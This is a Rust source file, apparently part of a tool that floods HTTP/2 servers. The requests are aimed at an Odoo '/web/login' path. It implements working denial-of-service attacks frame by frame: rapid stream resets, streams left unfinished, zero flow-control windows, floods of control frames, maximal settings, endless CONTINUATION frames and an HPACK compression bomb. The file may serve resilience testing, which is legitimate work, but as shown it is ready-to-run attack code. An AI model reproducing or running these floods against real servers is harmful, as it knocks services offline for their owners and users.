//! Floods of HTTP/2, frame by frame.

use std::time::Duration;

use anyhow::Result;
use tokio::{io::AsyncWriteExt, time::timeout};

use crate::{
    attackers::Attacker,
    connections::finish,
    door::{Stream, hear},
};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn setting(name: u16, value: u32) -> Vec<u8> {
    [&name.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

/// The head of a request, compressed: `:method` from the static table, and the rest.
fn request(method: u8) -> Vec<u8> {
    let path = b"/web/login";
    [&[method, 0x86, 0x04, path.len() as u8][..], path, &[0x41, 4], b"odoo"].concat()
}

fn get() -> Vec<u8> {
    request(0x82)
}

fn post() -> Vec<u8> {
    request(0x83)
}

/// The ids of a client's streams.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// Says hello with these settings, and then something.
async fn speak(attacker: &Attacker, settings: &[u8], frames: &[u8]) -> Result<Box<dyn Stream>> {
    let mut stream = attacker.door.open().await?;
    let hello = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, settings)[..]].concat();
    stream.write_all(&hello).await?;
    // Who is refused early may be so while speaking.
    let _ = timeout(Duration::from_secs(10), stream.write_all(frames)).await;
    Ok(stream)
}

/// Begins requests and takes them back at once.
pub async fn rapid_resets(attacker: Attacker) -> Result<()> {
    let begin = get();
    let frames: Vec<u8> = streams(1_000)
        .flat_map(|id| {
            [frame(HEADERS, END_HEADERS | END_STREAM, id, &begin), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])]
                .concat()
        })
        .collect();
    finish(&mut speak(&attacker, &[], &frames).await?).await
}

/// Begins many requests on one connection, none of which ends.
pub async fn many_streams(attacker: Attacker) -> Result<()> {
    let begin = post();
    let frames: Vec<u8> = streams(200).flat_map(|id| frame(HEADERS, END_HEADERS, id, &begin)).collect();
    let mut stream = speak(&attacker, &[], &frames).await?;
    loop {
        hear(&mut stream).await?;
    }
}

/// Takes no byte of any answer.
pub async fn closed_windows(attacker: Attacker) -> Result<()> {
    let begin = get();
    let frames: Vec<u8> =
        streams(100).flat_map(|id| frame(HEADERS, END_HEADERS | END_STREAM, id, &begin)).collect();
    let mut stream = speak(&attacker, &setting(4, 0), &frames).await?;
    loop {
        hear(&mut stream).await?;
    }
}

/// Changes its settings, asks whether anybody is there, gives windows and sends empty frames, thousands of
/// times.
pub async fn control_frames(attacker: Attacker) -> Result<()> {
    let one = match rand::random_range(0..4) {
        0 => frame(SETTINGS, 0, 0, &setting(4, 70_000)),
        1 => frame(PING, 0, 0, &[7; 8]),
        2 => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        _ => frame(DATA, 0, 1, &[]),
    };
    let begin = frame(HEADERS, END_HEADERS, 1, &post());
    finish(&mut speak(&attacker, &[], &[begin, one.repeat(10_000)].concat()).await?).await
}

/// Settings, frames and windows as large as can be written.
pub async fn largest_settings(attacker: Attacker) -> Result<()> {
    let settings: Vec<u8> =
        [(1, u32::MAX), (3, u32::MAX), (4, i32::MAX as u32), (5, (1 << 24) - 1), (6, u32::MAX), (99, 7)]
            .into_iter()
            .flat_map(|(name, value)| setting(name, value))
            .collect();
    let begin = frame(HEADERS, END_HEADERS, 1, &post());
    let window = frame(WINDOW_UPDATE, 0, 0, &(i32::MAX as u32).to_be_bytes()).repeat(2);
    let large = frame(DATA, 0, 1, &vec![b'x'; 1 << 20]);
    finish(&mut speak(&attacker, &settings, &[begin, large, window].concat()).await?).await
}

/// A head that goes on and on.
pub async fn continuations(attacker: Attacker) -> Result<()> {
    let field = [&[0, 3][..], b"x-a", &[100], &[b'a'; 100]].concat();
    let more = frame(CONTINUATION, 0, 1, &field.repeat(100));
    let frames = [frame(HEADERS, 0, 1, &get()), more.repeat(400)].concat();
    finish(&mut speak(&attacker, &[], &frames).await?).await
}

/// A large field that is said once and referred to thousands of times.
pub async fn compressed_bomb(attacker: Attacker) -> Result<()> {
    // A literal of 3,000 bytes with a name of its own, which gets the first place of the dynamic table.
    let field = [&[0x40, 3][..], b"x-b", &[0x7f, 0xb9, 0x16], &vec![b'b'; 3_000]].concat();
    let head = [get(), field, vec![0xbe; 4_000]].concat();
    finish(&mut speak(&attacker, &[], &frame(HEADERS, END_HEADERS | END_STREAM, 1, &head)).await?).await
}
